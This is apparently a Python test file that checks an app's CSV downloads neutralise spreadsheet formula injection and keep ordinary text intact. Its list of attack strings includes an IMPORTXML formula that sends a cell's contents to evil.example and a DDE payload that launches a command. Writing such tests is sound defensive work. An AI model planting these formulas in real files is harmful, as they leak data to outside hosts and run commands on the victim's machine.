"""Every CSV the app offers neutralises spreadsheet formulas and keeps the text readable."""

import csv
import io

import pandas as pd
import pytest

from views.downloads import csv_text

ATTACKS = ['=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_reads_back_as_text(text):
    table = csv_text(pd.DataFrame({"title": [text], "count": [312]}))
    [row] = list(csv.DictReader(io.StringIO(table, newline="")))
    assert row["title"] == "'" + text and row["count"] == "312"


def test_ordinary_text_and_numbers_are_unchanged():
    frame = pd.DataFrame({"title": ["Raid in Kratie", "≥270 / >270", "ក្រចេះ"], "count": [312, 270, 27],
                          "csv line": [2, 3, 4]})
    assert pd.read_csv(io.StringIO(csv_text(frame))).equals(frame)


def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own():
    table = csv_text(pd.DataFrame({"title": ["Raid\r=HYPERLINK(1)", "a\nb"], "count": [1, 2]}))
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert rows == [["title", "count"], ["Raid\r=HYPERLINK(1)", "1"], ["a\nb", "2"]]
